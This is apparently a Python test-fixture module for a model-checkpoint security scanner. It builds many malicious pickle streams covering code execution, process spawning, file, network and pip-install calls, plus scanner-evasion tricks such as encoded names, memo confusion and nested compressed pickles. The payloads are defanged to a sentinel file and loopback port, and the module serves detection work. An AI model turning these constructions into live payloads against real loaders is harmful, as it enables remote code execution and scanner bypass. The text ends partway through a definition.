"""The malicious samples: each one hand-assembled, opcode by opcode, after a public source.

Every sample is a pickle stream (or several back to back) that *would* do
something dangerous if unpickled by ``pickle.load`` or
``torch.load(weights_only=False)``.  None is ever unpickled here or by the
tests.  Payloads are harmless and observable:

* code execution / process / file-write samples would create the file
  ``CKPTAUDIT_PAYLOAD_RAN`` in the current folder (``touch`` it, or
  ``open(...,'w')`` it) — ``tests/conftest.py::no_payload`` fails a test if it
  ever appears;
* file-read samples open a relative path that does not exist
  (``CKPTAUDIT_NONEXISTENT/...``);
* network samples point at ``127.0.0.1:9`` (discard port, nothing listens);
* import samples install nothing real (``pip install --no-index`` of a
  package name that does not exist, from a folder that does not exist).

Each :class:`Sample` has an ``id``, a ``family``, the ``protocol`` its opcodes
belong to, and a one-line ``source``: the advisory, scanner denylist entry or
technique it follows.  ``legacy_slot`` says which of the five records of a
legacy ``torch.save`` file the sample replaces (0 = the magic-number pickle,
3 = the object pickle).  ``wellformed`` is False for the samples that are
meant to break ``pickletools.dis`` after the payload (the "execute first,
then fail" technique); ``note`` says what a reader should know (e.g. that a
name from an advisory no longer exists in torch 2.13).
"""

from __future__ import annotations

import base64
import bz2
import lzma
import zlib
from dataclasses import dataclass
from typing import Callable, Dict, List, Optional

from .opcodes import Asm

# ------------------------------------------------------------------ payloads

SENTINEL = "CKPTAUDIT_PAYLOAD_RAN"
CMD = f"touch {SENTINEL}"  # shell command
ARGV = ["touch", SENTINEL]  # argv form
PY = f"open('{SENTINEL}', 'w').close()"  # a Python expression (valid for eval and exec)
NOWHERE = "CKPTAUDIT_NONEXISTENT/secret.txt"  # file-read target: does not exist
HOST = ("127.0.0.1", 9)  # discard port on loopback
URL = "http://127.0.0.1:9/ckptaudit"
PIP_ARGS = ["install", "--no-index", "--find-links", "CKPTAUDIT_NONEXISTENT", "ckptaudit-payload-nonexistent"]
TORCH_LEGACY_MAGIC = 0x1950A86A20F9469CFC6C  # torch/serialization.py MAGIC_NUMBER

FAMILIES = ("code-exec", "process", "file", "network", "import", "gadget", "torch-internal", "trick", "nested",
            "unknown-callable")


@dataclass(frozen=True)
class Sample:
    id: str
    family: str
    protocol: int
    source: str
    build: Callable[[], bytes]
    legacy_slot: int = 3
    wellformed: bool = True
    note: str = ""

    def bytes(self) -> bytes:
        return self.build()

    def row(self) -> Dict[str, object]:
        return {"id": self.id, "family": self.family, "protocol": self.protocol, "source": self.source,
                "legacy_slot": self.legacy_slot, "wellformed": self.wellformed, "note": self.note}


SAMPLES: List[Sample] = []
CONTROLS: List[Sample] = []


def sample(id: str, family: str, protocol: int, source: str, *, header: bool = True, frame: bool = False,
           legacy_slot: int = 3, wellformed: bool = True, note: str = "", control: bool = False):
    """Register ``fn(a: Asm)`` as a sample; ``fn`` may return bytes (several streams) instead."""
    assert family in FAMILIES or control, family

    def deco(fn):
        def build() -> bytes:
            a = Asm(protocol, header=header, frame=frame)
            out = fn(a)
            return out if out is not None else a.bytes()

        (CONTROLS if control else SAMPLES).append(
            Sample(id, family, protocol, source, build, legacy_slot, wellformed, note))
        return fn

    return deco


def stream(protocol: int, fn, **kw) -> bytes:
    a = Asm(protocol, **kw)
    fn(a)
    return a.bytes()


def _system(a: Asm, module: str = "posix") -> None:
    a.glob(module, "system")
    a.push((CMD,))
    a.reduce()
    a.stop()


def inner_payload() -> bytes:
    """The pickle hidden inside the nested samples: posix.system(CMD), protocol 2."""
    return stream(2, _system)


# ================================================================== code execution
# protocol coverage: the same call, os.system / posix.system, in every protocol


@sample("os_system_p0", "code-exec", 0,
        "hand-written GLOBAL 'os system' as in picklescan tests keyerror-exploit.pkl; protocol 0 is text",
        legacy_slot=0)
def _(a):
    _system(a, "os")


@sample("posix_system_p1", "code-exec", 1, "picklescan tests malicious2 (os.system pickled as posix.system), protocol 1",
        legacy_slot=2)
def _(a):
    _system(a)


@sample("posix_system_p2", "code-exec", 2, "picklescan tests malicious2_v*; modelscan/picklescan denylist 'posix': *")
def _(a):
    _system(a)


@sample("posix_system_p3", "code-exec", 3, "picklescan tests malicious2_v3", legacy_slot=4)
def _(a):
    _system(a)


@sample("posix_system_p4", "code-exec", 4, "picklescan tests malicious2_v4 (STACK_GLOBAL, FRAME)", frame=True)
def _(a):
    _system(a)


@sample("posix_system_p5", "code-exec", 5, "protocol-5 form of picklescan malicious2 (FRAME)", frame=True)
def _(a):
    _system(a)


@sample("nt_system_p2", "code-exec", 2,
        "picklescan _unsafe_globals 'nt' (os on Windows); torch _weights_only_unpickler refuses sys/os/posix/nt")
def _(a):
    _system(a, "nt")


@sample("builtin_eval_p0", "code-exec", 0, "picklescan tests malicious1_v0 (eval via __reduce__, Python 2 name __builtin__)",
        legacy_slot=0)
def _(a):
    a.call("__builtin__", "eval", PY)
    a.stop()


@sample("builtins_eval_p3", "code-exec", 3, "picklescan tests malicious1_v3 (builtins.eval)")
def _(a):
    a.call("builtins", "eval", PY)
    a.stop()


@sample("builtins_exec_p4", "code-exec", 4, "picklescan tests broken_model.pkl / fickling examples (builtins.exec)",
        frame=True)
def _(a):
    a.call("builtins", "exec", PY)
    a.stop()


@sample("builtins_compile_exec_p2", "code-exec", 2, "Sour Pickles (BlackHat US 2011) compile-then-exec chain")
def _(a):
    a.glob("builtins", "exec")
    with a.tuple_():
        a.call("builtins", "compile", PY, "<checkpoint>", "exec")
    a.reduce()
    a.stop()


@sample("sour_pickles_p0", "code-exec", 0,
        "picklescan tests malicious0.pkl, from Sour Pickles (BlackHat US 2011): globals/compile/eval/getattr/apply")
def _(a):
    code = f'picklesmashed=open("{SENTINEL}","w").close()'
    a.global_op("__builtin__", "globals").raw(b"(t").reduce().put(100).pop()
    a.global_op("__builtin__", "compile").raw(b"(")
    a.string_(code).string_("").string_("exec").raw(b"t").reduce().put(101).pop()
    a.global_op("__builtin__", "eval").raw(b"(").get(101).get(100).raw(b"t").reduce().put(102).pop()
    a.global_op("__builtin__", "getattr").raw(b"(").global_op("__builtin__", "dict").string_("get")
    a.raw(b"t").reduce().put(103).pop()
    a.global_op("__builtin__", "apply").raw(b"(").get(103).raw(b"(").get(100).string_("picklesmashed")
    a.raw(b"lt").reduce().put(104).pop().get(104).stop()


@sample("inst_builtin_exec_p0", "code-exec", 0, "picklescan tests malicious10.pkl (INST opcode '__builtin__ exec')")
def _(a):
    a.raw(b"(").string_(PY).raw(b"i__builtin__\nexec\n").stop()


@sample("obj_builtins_eval_p1", "code-exec", 1, "OBJ opcode (protocol 1) calling builtins.eval; pickletools OBJ")
def _(a):
    a.obj("builtins", "eval", PY)
    a.stop()


@sample("runpy_run_code_p4", "code-exec", 4, "picklescan tests malicious14 (runpy._run_code); denylist 'runpy': *")
def _(a):
    a.call("runpy", "_run_code", PY, {})
    a.stop()


@sample("code_interactive_runcode_p4", "code-exec", 4,
        "picklescan GHSA-cj3c-v495-4xqh (code.InteractiveInterpreter.runcode)")
def _(a):
    a.glob("code", "InteractiveInterpreter.runcode")
    with a.tuple_():
        a.call("code", "InteractiveInterpreter")
        a.push(PY)
    a.reduce()
    a.stop()


@sample("timeit_timeit_p4", "code-exec", 4, "picklescan GHSA-v7x6-rv5q-mhwc (timeit.timeit runs its setup string)")
def _(a):
    a.call("timeit", "timeit", "", PY)
    a.stop()


@sample("cprofile_run_p3", "code-exec", 3, "picklescan GHSA-49gj-c84q-6qm9 (cProfile.run execs a string)")
def _(a):
    a.call("cProfile", "run", PY)
    a.stop()


@sample("bdb_run_p2", "code-exec", 2,
        "picklescan tests malicious15a (bdb.Bdb.run); protocol<4 reaches a method as getattr(bdb.Bdb, 'run')")
def _(a):
    a.glob("builtins", "getattr")
    with a.tuple_():
        a.glob("bdb", "Bdb")
        a.push("run")
    a.reduce()
    with a.tuple_():
        a.call("bdb", "Bdb")
        a.push(PY)
    a.reduce()
    a.stop()


@sample("numpy_runstring_p4", "code-exec", 4, "picklescan tests malicious22 (numpy.testing._private.utils.runstring = exec)")
def _(a):
    a.call("numpy.testing._private.utils", "runstring", PY, {})
    a.stop()


@sample("numpy_f2py_getlincoef_p4", "code-exec", 4, "picklescan GHSA-r8g5-cgf2-4m4m (numpy.f2py.crackfortran.getlincoef evals)")
def _(a):
    a.call("numpy.f2py.crackfortran", "getlincoef", PY, [])
    a.stop()


@sample("idlelib_get_entity_p4", "code-exec", 4, "picklescan GHSA-9xph-j2h6-g47v (idlelib.calltip.get_entity evals)")
def _(a):
    a.call("idlelib.calltip", "get_entity", PY)
    a.stop()


@sample("doctest_debug_script_p2", "code-exec", 2, "picklescan GHSA-fqq6-7vqf-w3fg (doctest.debug_script)")
def _(a):
    a.call("doctest", "debug_script", PY)
    a.stop()


@sample("typing_forwardref_eval_p2", "code-exec", 2,
        "stdlib gadget on no public denylist: typing._eval_type evals a ForwardRef's string "
        "(typing.py ForwardRef._evaluate; cf. arXiv 2508.19774 on unlisted risky functions)")
def _(a):
    a.glob("typing", "_eval_type")
    with a.tuple_():
        a.call("typing", "ForwardRef", PY)
        a.push({})
        a.push({})
    a.reduce()
    a.stop()


# ================================================================== processes


@sample("subprocess_popen_p4", "process", 4, "modelscan/picklescan denylist 'subprocess': * (Popen)")
def _(a):
    a.call("subprocess", "Popen", ARGV)
    a.stop()


@sample("subprocess_check_output_p2", "process", 2, "modelscan/picklescan denylist 'subprocess': * (check_output)")
def _(a):
    a.call("subprocess", "check_output", ARGV)
    a.stop()


@sample("subprocess_run_p3", "process", 3, "picklescan tests malicious8 (subprocess.run)")
def _(a):
    a.call("subprocess", "run", ARGV)
    a.stop()


@sample("os_popen_p1", "process", 1, "modelscan denylist 'os': * (os.popen runs a shell command)")
def _(a):
    a.call("os", "popen", CMD)
    a.stop()


@sample("pty_spawn_p4", "process", 4, "picklescan GHSA-vqmv-47xg-9wpr (pty.spawn)")
def _(a):
    a.call("pty", "spawn", ARGV)
    a.stop()


@sample("pydoc_pipepager_p4", "process", 4, "picklescan tests malicious18 (pydoc.pipepager runs a shell command)")
def _(a):
    a.call("pydoc", "pipepager", "", CMD)
    a.stop()


@sample("uuid_get_command_stdout_p4", "process", 4, "picklescan GHSA-g38g-8gr9-h9xp (uuid._get_command_stdout -> Popen)")
def _(a):
    a.call("uuid", "_get_command_stdout", "touch", SENTINEL)
    a.stop()


@sample("imaplib_imap4_stream_p3", "process", 3, "picklescan GHSA-g38g-8gr9-h9xp (imaplib.IMAP4_stream, shell=True)")
def _(a):
    a.call("imaplib", "IMAP4_stream", CMD)
    a.stop()


@sample("asyncio_unix_subprocess_p4", "process", 4,
        "CVE-2025-10157 / picklescan GHSA-q77w-mwjj-7mqx (asyncio.unix_events._UnixSubprocessTransport._start, "
        "a submodule of a denylisted module)")
def _(a):
    a.call("asyncio.unix_events", "_UnixSubprocessTransport._start", {}, CMD, True, None, None, None, 0)
    a.stop()


@sample("ctypes_cdll_system_p4", "process", 4, "picklescan GHSA-4675-36f9-wf6r (ctypes.CDLL(None).system)")
def _(a):
    a.glob("builtins", "getattr")
    with a.tuple_():
        a.call("ctypes", "CDLL", None)
        a.push("system")
    a.reduce()
    a.push((CMD.encode(),))
    a.reduce()
    a.stop()


# ================================================================== files


@sample("builtins_open_write_p3", "file", 3, "picklescan/modelscan denylist builtins.open (creates the sentinel file)")
def _(a):
    a.call("builtins", "open", SENTINEL, "w")
    a.stop()


@sample("builtin_open_read_p0", "file", 0, "Sour Pickles file read (open('/etc/passwd')), Python 2 name, nonexistent path")
def _(a):
    a.glob("__builtin__", "getattr")
    with a.tuple_():
        a.call("__builtin__", "open", NOWHERE)
        a.push("read")
    a.reduce()
    a.push(())
    a.reduce()
    a.stop()


@sample("shutil_copyfile_p4", "file", 4, "picklescan/modelscan denylist 'shutil': * (CVE-2025-10155 write-up family)")
def _(a):
    a.call("shutil", "copyfile", "/dev/null", SENTINEL)
    a.stop()


@sample("pathlib_write_text_p4", "file", 4, "pathlib.Path.write_text: a file write on no scanner denylist (picklescan 1.0.5)")
def _(a):
    a.glob("pathlib", "Path.write_text")
    with a.tuple_():
        a.call("pathlib", "Path", SENTINEL)
        a.push("")
    a.reduce()
    a.stop()


@sample("io_fileio_p2", "file", 2, "picklescan tests io_FileIO.pkl (_io.FileIO bypasses a builtins.open entry)")
def _(a):
    a.call("_io", "FileIO", SENTINEL, "w")
    a.stop()


@sample("logging_filehandler_p4", "file", 4, "picklescan tests logging_FileHandler.pkl (creates a file)")
def _(a):
    a.call("logging", "FileHandler", SENTINEL)
    a.stop()


@sample("distutils_write_file_p2", "file", 2, "picklescan GHSA-m273-6v24-x4m4 (distutils.file_util.write_file)")
def _(a):
    a.call("distutils.file_util", "write_file", SENTINEL, ["x"])
    a.stop()


@sample("codecs_open_p3", "file", 3, "codecs.open: a file write on no scanner denylist (picklescan 1.0.5)")
def _(a):
    a.call("codecs", "open", SENTINEL, "w")
    a.stop()


# ================================================================== network


@sample("socket_create_connection_p4", "network", 4, "picklescan tests malicious7 (socket.create_connection)")
def _(a):
    a.call("socket", "create_connection", HOST)
    a.stop()


@sample("urllib_urlopen_p3", "network", 3, "picklescan tests urllib_request_urlopen.pkl (SSRF / exfiltration)")
def _(a):
    a.call("urllib.request", "urlopen", URL)
    a.stop()


@sample("http_client_request_p2", "network", 2, "picklescan tests malicious3 (http.client connection), with a request")
def _(a):
    a.glob("builtins", "getattr")
    with a.tuple_():
        a.call("http.client", "HTTPConnection", HOST[0], HOST[1])
        a.push("request")
    a.reduce()
    a.push(("GET", "/ckptaudit"))
    a.reduce()
    a.stop()


@sample("httplib_https_p0", "network", 0, "picklescan tests malicious3.pkl: protocol 0 writes http.client as 'httplib'")
def _(a):
    a.call("httplib", "HTTPSConnection", f"{HOST[0]}:{HOST[1]}")
    a.stop()


@sample("webbrowser_open_p4", "network", 4, "modelscan/picklescan denylist 'webbrowser': *")
def _(a):
    a.call("webbrowser", "open", URL)
    a.stop()


@sample("ssl_get_server_certificate_p4", "network", 4,
        "picklescan tests dns_exfiltration.npy (ssl.get_server_certificate resolves a name)")
def _(a):
    a.call("ssl", "get_server_certificate", HOST)
    a.stop()


@sample("requests_get_p4", "network", 4, "picklescan tests malicious4 (requests.api.get)")
def _(a):
    a.call("requests.api", "get", URL)
    a.stop()


# ================================================================== import machinery


@sample("importlib_import_module_p4", "import", 4,
        "picklescan tests importlib_bypass.pkl / PR 74 (importlib.import_module('os').system)")
def _(a):
    a.glob("builtins", "getattr")
    with a.tuple_():
        a.call("importlib", "import_module", "os")
        a.push("system")
    a.reduce()
    a.push((CMD,))
    a.reduce()
    a.stop()


@sample("builtins_import_p2", "import", 2, "picklescan GHSA-46h3-79wf-xr6c (builtins.__import__ then getattr)")
def _(a):
    a.glob("builtins", "getattr")
    with a.tuple_():
        a.call("builtins", "__import__", "os")
        a.push("system")
    a.reduce()
    a.push((CMD,))
    a.reduce()
    a.stop()


@sample("pkgutil_resolve_name_p4", "import", 4,
        "picklescan _unsafe_globals pkgutil.resolve_name ('resolves any module:attribute, bypassing the blocklist')")
def _(a):
    a.call("pkgutil", "resolve_name", "os:system")
    a.push((CMD,))
    a.reduce()
    a.stop()


@sample("pip_main_p0", "import", 0, "CVE-2025-1716 (Sonatype): pip.main installs a package; picklescan tests malicious16 (protocol 0)")
def _(a):
    a.call("pip", "main", PIP_ARGS)
    a.stop()


@sample("pip_internal_main_p4", "import", 4, "CVE-2025-1716 follow-up: pip._internal.cli.main.main (modelaudit PR 598)")
def _(a):
    a.call("pip._internal.cli.main", "main", PIP_ARGS)
    a.stop()


@sample("ensurepip_run_pip_p4", "import", 4,
        "picklescan GHSA-xp4f-hrf8-rxw7 (ensurepip._run_pip pastes its argument into python -c code)")
def _(a):
    a.call("ensurepip", "_run_pip", f"[]; {PY}")
    a.stop()


@sample("pydoc_locate_methodcaller_p4", "import", 4,
        "picklescan GHSA-84r2-jw7c-4r5q (operator.methodcaller('system', cmd)(pydoc.locate('os')))")
def _(a):
    a.call("operator", "methodcaller", "system", CMD)
    with a.tuple_():
        a.call("pydoc", "locate", "os")
    a.reduce()
    a.stop()


# ================================================================== attribute-walking gadgets


@sample("getattr_import_p0", "gadget", 0, "fickling/picklescan builtins.getattr chain, protocol 0 with __builtin__ names")
def _(a):
    a.glob("__builtin__", "getattr")
    with a.tuple_():
        a.call("__builtin__", "__import__", "os")
        a.push("system")
    a.reduce()
    a.push((CMD,))
    a.reduce()
    a.stop()


@sample("operator_attrgetter_p4", "gadget", 4,
        "picklescan tests malicious12 (pickleassem: attrgetter('system')(__import__('os')), MEMOIZE after each op)")
def _(a):
    a.glob("operator", "attrgetter").memoize()
    a.push(("system",)).memoize()
    a.reduce().memoize()
    a.glob("builtins", "__import__").memoize()
    a.push(("os",)).memoize()
    a.reduce().memoize()
    a.raw(b"\x85").memoize()  # TUPLE1 of the module
    a.reduce().memoize()  # -> os.system
    a.push((CMD,)).memoize()
    a.reduce().memoize()
    a.stop()


@sample("operator_methodcaller_p2", "gadget", 2, "picklescan GHSA-955r-x9j8-7rhh (_operator.methodcaller alias)")
def _(a):
    a.call("_operator", "methodcaller", "system", CMD)
    with a.tuple_():
        a.call("builtins", "__import__", "os")
    a.reduce()
    a.stop()


@sample("functools_partial_p4", "gadget", 4, "picklescan _unsafe_globals functools.partial ('partial(os.system, cmd)')")
def _(a):
    a.glob("functools", "partial")
    with a.tuple_():
        a.glob("posix", "system")
        a.push(CMD)
    a.reduce()
    a.push(())
    a.reduce()
    a.stop()


@sample("functools_reduce_getattr_p2", "gadget", 2,
        "functools.reduce(getattr, ...) attribute walk (fickling unsafe imports; not in picklescan 1.0.5)")
def _(a):
    a.glob("functools", "reduce")
    with a.tuple_():
        a.glob("builtins", "getattr")
        a.push(("system",))
        a.call("builtins", "__import__", "os")
    a.reduce()
    a.push((CMD,))
    a.reduce()
    a.stop()


@sample("copyreg_reconstructor_popen_p2", "gadget", 2,
        "copyreg._reconstructor(cls, base, state) calls base.__init__(obj, state); protocol 2 spells it copy_reg")
def _(a):
    a.glob("copy_reg", "_reconstructor")
    with a.tuple_():
        a.glob("subprocess", "Popen")
        a.glob("subprocess", "Popen")
        a.push(ARGV)
    a.reduce()
    a.stop()


@sample("codecs_rot13_names_p4", "gadget", 4,
        "_codecs.encode (allowed by torch weights_only) builds the module/name strings by rot13 at load time")
def _(a):
    a.call("_codecs", "encode", "cbfvk", "rot_13")  # -> "posix"
    a.call("_codecs", "encode", "flfgrz", "rot_13")  # -> "system"
    a.stack_global()
    a.push((CMD,))
    a.reduce()
    a.stop()


@sample("dotted_torch_serialization_os_p4", "gadget", 4,
        "protocol-4 dotted name walk (pickle _getattribute): 'torch' 'serialization.os.system' is os.system")
def _(a):
    a.glob("torch", "serialization.os.system")
    a.push((CMD,))
    a.reduce()
    a.stop()


@sample("dotted_logging_os_p4", "gadget", 4,
        "protocol-4 dotted name walk: 'logging' 'os.system' (a module that imports os, listed only for FileHandler)")
def _(a):
    a.glob("logging", "os.system")
    a.push((CMD,))
    a.reduce()
    a.stop()


# ================================================================== torch internals


@sample("torch_jit_execwrapper_p2", "torch-internal", 2,
        "picklescan GHSA-vr7h-p6mm-wpmh (torch.jit.unsupported_tensor_ops.execWrapper = exec, still in torch 2.13)")
def _(a):
    a.call("torch.jit.unsupported_tensor_ops", "execWrapper", PY, {}, {})
    a.stop()


@sample("torch_fx_reduce_graph_module_p2", "torch-internal", 2,
        "torch.fx.graph_module.reduce_graph_module execs body['_code'] (GraphModule.__reduce__ path, torch 2.13)")
def _(a):
    a.call("torch.fx.graph_module", "reduce_graph_module", {"_code": "def forward(self):\n    return None\n"},
           PY + "\n")
    a.stop()


@sample("torch_symshapes_eval_guards_p4", "torch-internal", 4,
        "picklescan GHSA-f4x7-rfwp-v3xw (ShapeEnv.evaluate_guards_expression evals, still in torch 2.13)")
def _(a):
    a.call("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", None, PY, [])
    a.stop()


@sample("torch_dynamo_guardbuilder_get_p4", "torch-internal", 4,
        "picklescan GHSA-86cj-95qr-2p4f (torch._dynamo.guards.GuardBuilder.get)",
        note="in torch 2.13 GuardBuilder.get takes a Source, not a string: the advisory name, no longer an eval there")
def _(a):
    a.call("torch._dynamo.guards", "GuardBuilder.get", {}, PY)
    a.stop()


@sample("torch_collect_env_run_p2", "torch-internal", 2,
        "picklescan GHSA-f745-w6jp-hpxx (torch.utils.collect_env.run: Popen(shell=True))")
def _(a):
    a.call("torch.utils.collect_env", "run", CMD)
    a.stop()


@sample("torch_inductor_compile_file_p4", "torch-internal", 4,
        "picklescan tests malicious17 (torch._inductor.codecache.compile_file runs a command)",
        note="compile_file is gone from torch 2.13's codecache; its successor is cpp_builder.run_compile_cmd")
def _(a):
    a.call("torch._inductor.codecache", "compile_file", "", "", ["sh", "-c", CMD])
    a.stop()


@sample("torch_inductor_run_compile_cmd_p4", "torch-internal", 4,
        "torch 2.13 torch._inductor.cpp_builder.run_compile_cmd (subprocess.run of a command line; on no denylist)")
def _(a):
    a.call("torch._inductor.cpp_builder", "run_compile_cmd", CMD, ".")
    a.stop()


@sample("torch_serialization_load_partial_p4", "torch-internal", 4,
        "picklescan tests malicious19: functools.partial(torch.load, path, weights_only=False) pickled with BUILD state")
def _(a):
    a.glob("functools", "partial")
    with a.tuple_():
        a.glob("torch.serialization", "load")
    a.reduce()
    with a.tuple_():  # partial.__setstate__((func, args, keywords, dict))
        a.glob("torch.serialization", "load")
        a.push(("CKPTAUDIT_NONEXISTENT/other_model.bin",))
        a.push({"weights_only": False})
        a.push(None)
    a.build()
    a.push(())
    a.reduce()
    a.stop()


# ================================================================== tricks


@sample("computed_stack_global_p4", "trick", 4,
        "computed STACK_GLOBAL: module and name are results of calls (bytes.decode) at load time")
def _(a):
    a.call("builtins", "bytes.decode", b"posix")
    a.call("builtins", "bytes.decode", b"system")
    a.stack_global()
    a.push((CMD,))
    a.reduce()
    a.stop()


@sample("memo_index_confusion_p4", "trick", 4,
        "ImaginaryCTF 'Safe Pickle' / picklescan issue 22 and tests malicious11 (PUT indices out of order, no PROTO)",
        header=False)
def _(a):
    for s, i in (("os", 2), ("system", 3), ("torch", 0), ("LongStorage", 1)):
        a.raw(b"V" + s.encode() + b"\n").put_text(i).pop()
    a.get_text(2).get_text(3).stack_global()
    a.raw(b"(V" + CMD.encode() + b"\nt").reduce().stop()


@sample("memo_rebind_p4", "trick", 4, "memo rebinding: slots 0/1 hold torch.FloatStorage, then are re-PUT to posix.system",
        wellformed=False, note="pickletools.dis refuses a re-PUT memo slot; pickle.load accepts it")
def _(a):
    a.push("torch").put(0).push("FloatStorage").put(1).pop().pop()
    a.push("posix").put(0).push("system").put(1).pop().pop()
    a.get(0).get(1).stack_global()
    a.push((CMD,))
    a.reduce()
    a.stop()


@sample("memo_copy_p4", "trick", 4, "memo copy (BINGET then BINPUT): the name reaches STACK_GLOBAL through a second slot")
def _(a):
    a.push("posix").memoize().push("system").memoize().pop().pop()
    a.get(0).put(7).pop().get(1).put(8).pop()
    a.get(7).get(8).stack_global()
    a.push((CMD,))
    a.reduce()
    a.stop()


def _ext(a: Asm, registry: str, code: int) -> None:
    a.call(registry, "add_extension", "posix", "system", code)
    a.pop()
    a.ext(code)
    a.push((CMD,))
    a.reduce()
    a.stop()


@sample("ext1_registry_p2", "trick", 2,
        "EXT1 code via copyreg's extension registry, registered in-stream by copy_reg.add_extension (pickletools EXT1)")
def _(a):
    _ext(a, "copy_reg", 0xF0)


@sample("ext2_registry_p3", "trick", 3, "EXT2 code via copyreg.add_extension (pickletools EXT2)")
def _(a):
    _ext(a, "copyreg", 0x4321)


@sample("ext4_registry_p4", "trick", 4, "EXT4 code via copyreg.add_extension (pickletools EXT4)")
def _(a):
    _ext(a, "copyreg", 0x1234567)


@sample("multistream_second_p2", "trick", 2,
        "picklescan tests malicious6 (a benign pickle, then a malicious one in the same file)",
        note="torch.load of a zip, DCP and pickle.load read only the first stream of data.pkl/.metadata; the second runs where a loader reads on (legacy records, pickle.load in a loop)")
def _(a):
    first = stream(2, lambda b: b.push({"step": 100, "note": "clean"}).stop())
    return first + stream(2, _system)


@sample("multistream_magic_then_payload_p2", "trick", 2,
        "legacy torch layout: the real magic-number pickle, then a payload where the protocol-version record goes "
        "(torch _legacy_load unpickles record 2 with the full unpickler)", legacy_slot=0,
        note="torch.load of a zip, DCP and pickle.load read only the first stream of data.pkl/.metadata; the second runs where a loader reads on (legacy records, pickle.load in a loop)")
def _(a):
    first = stream(2, lambda b: b.push(TORCH_LEGACY_MAGIC).stop())
    return first + stream(2, _system)


@sample("legacy_magic_eval_p2", "trick", 2,
        "picklescan tests pytorch_magic_bypass.pt: the legacy magic number computed by __builtin__.eval", legacy_slot=0)
def _(a):
    a.call("__builtin__", "eval", f"{PY} or {TORCH_LEGACY_MAGIC:#x}")
    a.stop()


@sample("stack_global_string_operands_p4", "trick", 4,
        "picklescan GHSA-9gvj-pp9x-gcfr (Python 2 STRING operands for STACK_GLOBAL, no PROTO header)", header=False)
def _(a):
    a.string_("os").string_("system").stack_global()
    a.string_(CMD).raw(b"\x85").reduce().stop()


@sample("memo_keyerror_after_payload_p4", "trick", 4,
        "picklescan tests keyerror-exploit.pkl (payload first, then a BINGET of an unset memo slot)",
        wellformed=False, note="pickletools.dis stops at the unset memo slot; pickle.load ran the payload before that")
def _(a):
    a.global_op("os", "system").str_(CMD).raw(b"\x85").reduce().pop()
    a.push("os").memoize()
    a.raw(b"h\x03").raw(b"h\x00").stack_global()  # BINGET 3 (unset), BINGET 0
    a.push(0x42)
    a.stop()


@sample("payload_then_garbage_p2", "trick", 2,
        "picklescan tests malicious-invalid-bytes.pkl / CVE-2025-32434 write-ups: payload, then bytes that break parsers",
        wellformed=False, note="trailing bytes after STOP are not a pickle")
def _(a):
    _system(a)
    return a.bytes() + b"\n\n\t\t"


# ================================================================== nested pickles


@sample("nested_pickle_loads_bytes_p3", "nested", 3, "picklescan tests malicious13 (_pickle.loads of bytes in the pickle)")
def _(a):
    a.call("_pickle", "loads", inner_payload())
    a.stop()


@sample("nested_base64_p4", "nested", 4, "pickle.loads(base64.b64decode(...)): the inner pickle as a base64 string")
def _(a):
    a.glob("pickle", "loads")
    with a.tuple_():
        a.call("base64", "b64decode", base64.b64encode(inner_payload()).decode("ascii"))
    a.reduce()
    a.stop()


@sample("nested_base64_p0", "nested", 0, "pickle.loads(base64.b64decode(...)) in protocol 0 (text all through)")
def _(a):
    a.glob("pickle", "loads")
    with a.tuple_():
        a.call("base64", "b64decode", base64.b64encode(inner_payload()).decode("ascii"))
    a.reduce()
    a.stop()


@sample("nested_hex_p4", "nested", 4, "pickle.loads(bytes.fromhex(...)): the inner pickle as a hex string")
def _(a):
    a.glob("pickle", "loads")
    with a.tuple_():
        a.call("builtins", "bytes.fromhex", inner_payload().hex())
    a.reduce()
    a.stop()


@sample("nested_zlib_p3", "nested", 3, "_pickle.loads(zlib.decompress(...)): the inner pickle zlib-compressed")
def _(a):
    a.glob("_pickle", "loads")
    with a.tuple_():
        a.call("zlib", "decompress", zlib.compress(inner_payload(), 9))
    a.reduce()
    a.stop()


@sample("nested_bz2_p4", "nested", 4, "_pickle.loads(bz2.decompress(...)): the inner pickle bz2-compressed")
def _(a):
    a.glob("_pickle", "loads")
    with a.tuple_():
        a.call("bz2", "decompress", bz2.compress(inner_payload(), 9))
    a.reduce()
    a.stop()


@sample("nested_lzma_p5", "nested", 5, "_pickle.loads(lzma.decompress(bytearray)): lzma-compressed, in a BYTEARRAY8")
def _(a):
    a.glob("_pickle", "loads")
    with a.tuple_():
        a.glob("lzma", "decompress")
        with a.tuple_():
            a.bytearray8(lzma.compress(inner_payload(), preset=6))
        a.reduce()
    a.reduce()
    a.stop()


@sample("nested_bytearray8_p5", "nested", 5, "_pickle.loads of a protocol-5 BYTEARRAY8 holding the inner pickle")
def _(a):
    a.glob("_pickle", "loads")
    with a.tuple_():
        a.bytearray8(inner_payload())
    a.reduce()
    a.stop()


@sample("nested_torch_load_bytesio_p4", "nested", 4,
        "torch.load(io.BytesIO(inner), weights_only=False) through functools.partial (picklescan malicious19 form)")
def _(a):
    a.glob("functools", "partial")
    with a.tuple_():
        a.glob("torch", "load")
    a.reduce()
    with a.tuple_():
        a.glob("torch", "load")
        with a.tuple_():
            a.call("_io", "BytesIO", inner_payload())
        a.push({"weights_only": False})
        a.push(None)
    a.build()
    a.push(())
    a.reduce()
    a.stop()


@sample("nested_torch_load_from_bytes_p2", "nested", 2,
        "torch.storage._load_from_bytes(b) = torch.load(BytesIO(b), weights_only=False) (torch 2.13 storage.py)")
def _(a):
    a.call("torch.storage", "_load_from_bytes", inner_payload())
    a.stop()


@sample("nested_config_module_load_config_p4", "nested", 4,
        "picklescan GHSA-vv6j-3g6g-2pvj (torch.utils._config_module.ConfigModule.load_config unpickles bytes)")
def _(a):
    a.call("torch.utils._config_module", "ConfigModule.load_config", None, inner_payload())
    a.stop()


@sample("nested_datapipes_basichandlers_p4", "nested", 4,
        "picklescan GHSA-h3qp-7fh3-f8h4 (torch datapipes decoder.basichandlers('pickle', data) unpickles)")
def _(a):
    a.call("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", inner_payload())
    a.stop()


@sample("nested_depth2_p4", "nested", 4, "a pickle that unpickles a pickle that unpickles the payload (two levels)")
def _(a):
    level1 = stream(4, lambda b: b.call("_pickle", "loads", inner_payload()).stop())
    a.call("_pickle", "loads", level1)
    a.stop()


# ================================================================== unknown names used as callables


@sample("unknown_factory_result_called_p4", "unknown-callable", 4,
        "issue 12 tier rule: a call on a name outside the known tiers whose result is then called "
        "(hook registries in user code)")
def _(a):
    a.call("ckpt_plugins.registry", "get_handler", "shell")
    a.push((CMD,))
    a.reduce()
    a.stop()


@sample("unknown_class_method_called_p2", "unknown-callable", 2,
